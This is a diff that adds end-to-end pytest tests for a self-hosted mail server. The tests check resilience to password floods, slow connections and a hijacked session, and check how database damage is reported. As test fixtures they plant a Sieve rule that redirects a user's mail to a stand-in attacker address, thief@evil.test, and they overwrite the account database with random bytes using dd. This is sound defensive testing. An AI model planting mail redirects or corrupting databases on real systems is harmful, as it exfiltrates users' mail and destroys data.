@@ -1,0 +1,119 @@
+"""One person must not stop the others: an old password, slow connections, a thief's open session, many +details."""
+
+from __future__ import annotations
+
+import contextlib
+import imaplib
+import smtplib
+import socket
+import time
+from concurrent.futures import ThreadPoolExecutor
+
+import pytest
+
+from tests.e2e.house import House, token, until, unverified
+
+USER, OTHER = "user1@example.test", "admin@example.test"
+
+
+def test_an_old_password_behind_the_same_address_stops_nobody(up: House) -> None:
+    def wrong(_: int) -> None:
+        with contextlib.suppress(imaplib.IMAP4.error, smtplib.SMTPException, OSError):
+            up.can_log_in(USER, token())
+
+    with ThreadPoolExecutor(4) as telephone:
+        list(telephone.map(wrong, range(12)))  # each with another password, which Dovecot punishes
+        again = [telephone.submit(wrong, number) for number in range(8)]
+        began = time.monotonic()
+        subject = up.submit(OTHER, OTHER)  # all of us have one address
+        assert up.can_log_in(OTHER, up.password(OTHER))
+        assert time.monotonic() - began < 8
+        for each in again:
+            each.result()
+    up.arrives(OTHER, subject)
+
+
+@pytest.mark.parametrize("port", [587, 993])
+def test_slow_connections_of_one_client_harm_nobody(up: House, port: int) -> None:
+    with contextlib.ExitStack() as slow:
+        for _ in range(60):
+            slow.enter_context(socket.create_connection((up.address("mail"), port), 20))
+        began = time.monotonic()
+        if port == 587:
+            up.submit(OTHER, OTHER)
+        else:
+            assert up.can_log_in(OTHER, up.password(OTHER))
+        assert time.monotonic() - began < 8
+
+
+@pytest.mark.parametrize("command", ["disable", "passwd"])
+def test_an_open_session_sends_no_more_and_what_waits_is_held(up: House, command: str) -> None:
+    old = up.password(USER)
+    thief, idle, bystander = (up.submission() for _ in range(3))
+    try:
+        for client, user in ((thief, USER), (idle, USER), (bystander, OTHER)):
+            client.login(user, up.password(user))
+        up.run("mail", "postconf -e defer_transports=smtp && postfix reload")
+        for client, user in ((thief, USER), (bystander, OTHER)):
+            client.sendmail(user, ["stranger@elsewhere.test"], f"From: {user}\r\nSubject: {token()}\r\n\r\nHello.\r\n")
+        script = 'redirect "thief@evil.test";'
+        up.run(
+            "mail",
+            "mkdir -p /vault/mail/example.test/user1/sieve; cat >/vault/mail/example.test/user1/sieve/x.sieve",
+            stdin=script,
+        )
+        said = up.fab("mailcfg", f"{command} {USER}", stdin="another-password\n").stdout
+        assert "put 1 message of theirs in the queue on hold" in said
+        assert "/vault/mail/example.test/user1/sieve/x.sieve (not in use) sends mail on to thief@evil.test" in said
+        for client in (thief, idle):
+            with pytest.raises((smtplib.SMTPException, OSError)):
+                client.sendmail(USER, [OTHER], f"From: {USER}\r\n\r\nSpam.\r\n")
+        assert bystander.noop()[0] == 250  # others are left alone
+        waiting = up.run("mail", "postqueue -j")
+        assert [USER in line for line in waiting.splitlines() if '"hold"' in line] == [True]
+        assert OTHER in waiting
+    finally:
+        for client in (thief, idle, bystander):
+            client.close()
+        up.run(
+            "mail", "postconf -X defer_transports; postsuper -d ALL; rm -f /vault/mail/example.test/user1/sieve/x.sieve"
+        )
+        up.fab("mailcfg", f"enable {USER}")
+        up.fab("mailcfg", f"passwd {USER}", stdin=f"{old}\n")
+        up.fab("-H", "mail", "push", "--overwrite")
+
+
+def test_a_message_to_a_hundred_details_does_not_wait(up: House) -> None:
+    subject = token()
+    with up.submission() as client:
+        client.login(OTHER, up.password(OTHER))
+        to = [f"user1+{number}@example.test" for number in range(100)]
+        client.sendmail(OTHER, to, f"From: {OTHER}\r\nTo: list\r\nSubject: {subject}\r\n\r\nHello.\r\n")
+    until(lambda: len(up.messages(USER, subject)) == 100, 30, "all of them")
+    with up.imap(USER) as client:
+        client.select()
+        client.store(",".join(client.search(None, "SUBJECT", subject)[1][0].decode().split()), "+FLAGS", r"\Deleted")
+        client.expunge()
+
+
+def test_bdat_is_not_offered_by_debian_12(up: House) -> None:
+    for port, tls in ((25, False), (587, False), (465, True)):
+        kind = smtplib.SMTP_SSL if tls else smtplib.SMTP
+        with kind(up.address("mail"), port, timeout=30, **({"context": unverified()} if tls else {})) as client:
+            client.ehlo()
+            assert client.has_extn("chunking") == (up.release == 13)
+
+
+def test_status_names_the_release_of_rspamd_and_what_is_wrong_with_the_vault(up: House) -> None:
+    assert up.fab_json("-H", "mail", "status")["mail"]["rspamd"].startswith({12: "3.4", 13: "3.12"}[up.release])
+    database = "/vault/db/mail.sqlite"
+    up.run(
+        "mail", f"cp -a {database} /vault/db/kept; dd if=/dev/urandom of={database} bs=1k seek=4 count=8 conv=notrunc"
+    )
+    try:
+        told = up.fab_json("-H", "mail", "status")["mail"]
+        assert told["state"] == "degraded"
+        assert "damaged" in told["probes"]["accounts"]
+    finally:
+        up.run("mail", f"mv /vault/db/kept {database}")
+    assert up.state() == "up"
